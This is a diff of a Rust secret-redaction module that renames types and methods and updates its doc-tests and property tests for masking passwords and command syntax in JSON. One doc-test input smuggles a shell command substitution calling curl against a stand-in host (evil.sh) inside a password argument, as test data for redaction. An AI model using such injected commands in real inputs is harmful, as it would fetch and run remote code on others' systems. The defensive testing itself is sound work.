@@ -5,7 +5,7 @@ use std::sync::Arc;
 
 use super::Redactor;
 use super::mask::MaskReason;
-use super::recorder::{Masked, Recorder};
+use super::recorder::{RecordedSecret, Recorder};
 use super::tree::apart;
 use crate::json::{Json, push_part};
 
@@ -16,7 +16,7 @@ use crate::json::{Json, push_part};
 /// a text.
 #[derive(Debug)]
 #[non_exhaustive]
-pub struct Marked {
+pub struct RedactedJson {
     /// The document without secrets.
     pub tree: Json,
     /// What is masked, in the order of the document: at most a thousand places, those with a
@@ -48,7 +48,7 @@ pub struct MaskedPlace {
 }
 
 impl MaskedPlace {
-    /// How many characters the mask covers.
+    /// Returns how many characters the mask covers.
     pub fn characters(&self) -> usize {
         self.secret.chars().count()
     }
@@ -67,26 +67,26 @@ impl Redactor {
     /// syntax.
     ///
     /// ```
-    /// # use hitl_base::{json::scan, Redactor, redact::MaskReason};
-    /// let call = scan(r#"{"auth": {"user": "ann"}, "run": "--password=\"x9$(curl evil.sh)\""}"#)?;
-    /// let marked = Redactor::standard().marked(&call).unwrap();
+    /// # use hitl_base::{json::parse_json, Redactor, redact::MaskReason};
+    /// let call = parse_json(r#"{"auth": {"user": "ann"}, "run": "--password=\"x9$(curl evil.sh)\""}"#)?;
+    /// let marked = Redactor::standard().redact_with_places(&call).unwrap();
     /// assert_eq!(
     ///     marked.tree.to_text(),
     ///     r#"{"auth":{"user":"[redacted]"},"run":"--password=\"[redacted]$([redacted])\""}"#,
     /// );
     /// assert_eq!(marked.places[0].pointer, "/auth/user");
     /// assert_eq!((marked.places[2].reason, marked.places[2].characters()), (MaskReason::Name, 12));
-    /// # Ok::<(), hitl_base::json::ScanError>(())
+    /// # Ok::<(), hitl_base::json::ParseJsonError>(())
     /// ```
-    pub fn marked(&self, tree: &Json) -> Option<Marked> {
-        let recorder = Arc::new(Recorder::of(tree));
+    pub fn redact_with_places(&self, tree: &Json) -> Option<RedactedJson> {
+        let recorder = Arc::new(Recorder::new(tree));
         let recording =
             Self { masker: self.masker.recording(Arc::clone(&recorder)), only: self.only.clone() };
-        let found = recording.cleaned(tree)?;
+        let found = recording.json_if_changed(tree)?;
         let mut finish =
             Finish { redactor: self, recorder: &recorder, places: Vec::new(), more: 0 };
         let tree = finish.tree(&found, &mut String::new());
-        Some(Marked { tree, places: finish.places, more: finish.more })
+        Some(RedactedJson { tree, places: finish.places, more: finish.more })
     }
 
     /// The fingerprint of what is masked at a place: ten hexadecimal digits, keyed, so that equal
@@ -152,7 +152,8 @@ impl Finish<'_> {
             let (before, from) = rest.split_at(next);
             out.push_str(before);
             characters += before.chars().count();
-            let Some((placeholder, Masked { secret, reason, .. })) = self.recorder.leading(from)
+            let Some((placeholder, RecordedSecret { secret, reason, .. })) =
+                self.recorder.leading(from)
             else {
                 let (literal, after) = from.split_at(1);
                 out.push_str(literal);
@@ -188,10 +189,10 @@ mod tests {
     use proptest::prelude::*;
 
     use super::*;
-    use crate::json::scan;
+    use crate::json::parse_json;
 
-    fn marked(text: &str) -> Option<Marked> {
-        Redactor::standard().keyed([7; 32]).marked(&scan(text).unwrap())
+    fn marked(text: &str) -> Option<RedactedJson> {
+        Redactor::standard().with_key([7; 32]).redact_with_places(&parse_json(text).unwrap())
     }
 
     fn shown(text: &str) -> String {
@@ -233,7 +234,7 @@ mod tests {
             ("a\u{2018}b\u{2019}", "\u{2018}\u{2019}"),
         ] {
             let tree = Json::Object(vec![("password".to_owned(), Json::String(value.to_owned()))]);
-            let marked = Redactor::standard().marked(&tree).unwrap();
+            let marked = Redactor::standard().redact_with_places(&tree).unwrap();
             let shown = marked.tree.get("password").unwrap().as_str().unwrap();
             assert_eq!(shown.replace("[redacted]", "").replace(' ', ""), syntax, "{shown:?}");
         }
@@ -278,13 +279,13 @@ mod tests {
 
     #[test]
     fn equal_secrets_have_equal_fingerprints_and_guessable_ones_in_one_scope_only() {
-        let redactor = Redactor::standard().keyed([7; 32]);
+        let redactor = Redactor::standard().with_key([7; 32]);
         let strong = "kJ8s0fPq2LmX9vTz4RwB";
-        let tree = scan(&format!(
+        let tree = parse_json(&format!(
             r#"{{"password":"{strong}","secret":"{strong}","pin":"4711","passcode":"4711"}}"#
         ))
         .unwrap();
-        let places = redactor.marked(&tree).unwrap().places;
+        let places = redactor.redact_with_places(&tree).unwrap().places;
         let of = |at: usize, scope: &[u8]| redactor.fingerprint(&places[at], scope).unwrap();
         assert_eq!(of(0, b"one"), of(1, b"two"));
         assert_eq!(of(2, b"one"), of(3, b"one"));
@@ -299,17 +300,17 @@ mod tests {
         for (key, listed) in [("a", MAX_PLACES), (long.as_str(), 0)] {
             let password = Json::Object(vec![("password".to_owned(), Json::Array(many.clone()))]);
             let tree = Json::Object(vec![(key.to_owned(), password)]);
-            let marked = Redactor::standard().marked(&tree).unwrap();
+            let marked = Redactor::standard().redact_with_places(&tree).unwrap();
             assert_eq!((marked.places.len(), marked.more), (listed, 1_500 - listed));
         }
         // A text of nothing but syntax.
         let syntax =
             Json::Object(vec![("password".to_owned(), Json::String("a;".repeat(100_000)))]);
-        let marked = Redactor::standard().marked(&syntax).unwrap();
+        let marked = Redactor::standard().redact_with_places(&syntax).unwrap();
         assert!(marked.tree.to_text().len() < 200_000 && marked.more > 9_000);
         // Keys that are masked alike.
         let keys = (0..3_000).map(|n| (format!("password=hu{n}x"), Json::Null)).collect();
-        let marked = Redactor::standard().marked(&Json::Object(keys)).unwrap();
+        let marked = Redactor::standard().redact_with_places(&Json::Object(keys)).unwrap();
         let mut names: Vec<_> = marked.tree.entries().iter().map(|(key, _)| key.clone()).collect();
         names.sort();
         names.dedup();
@@ -347,7 +348,7 @@ mod tests {
     }
 
     /// Walks both documents and compares them place by place.
-    fn compare(real: &Json, shown: &Json, pointer: &str, marked: &Marked) {
+    fn compare(real: &Json, shown: &Json, pointer: &str, marked: &RedactedJson) {
         match (real, shown) {
             (Json::Object(real), Json::Object(shown)) => {
                 assert_eq!(real.len(), shown.len());
@@ -381,8 +382,8 @@ mod tests {
 
         #[test]
         fn invariant_9b_what_is_masked_keeps_its_structure_and_is_listed(tree in tree()) {
-            let redactor = Redactor::standard().keyed([7; 32]);
-            if let Some(marked) = redactor.marked(&tree) {
+            let redactor = Redactor::standard().with_key([7; 32]);
+            if let Some(marked) = redactor.redact_with_places(&tree) {
                 compare(&tree, &marked.tree, "", &marked);
             }
         }
@@ -391,7 +392,7 @@ mod tests {
         fn invariant_8_what_redaction_masks_is_masked_with_marks_too(tree in tree()) {
             let redactor = Redactor::standard();
             let plain = redactor.json(&tree);
-            let marked = redactor.marked(&tree);
+            let marked = redactor.redact_with_places(&tree);
             prop_assert!(plain != tree || marked.is_none());
             let shown = marked.map_or_else(|| tree.to_text(), |marked| marked.tree.to_text());
             for secret in ["hunter2", "ghp_abcdefgh", "curl x"] {
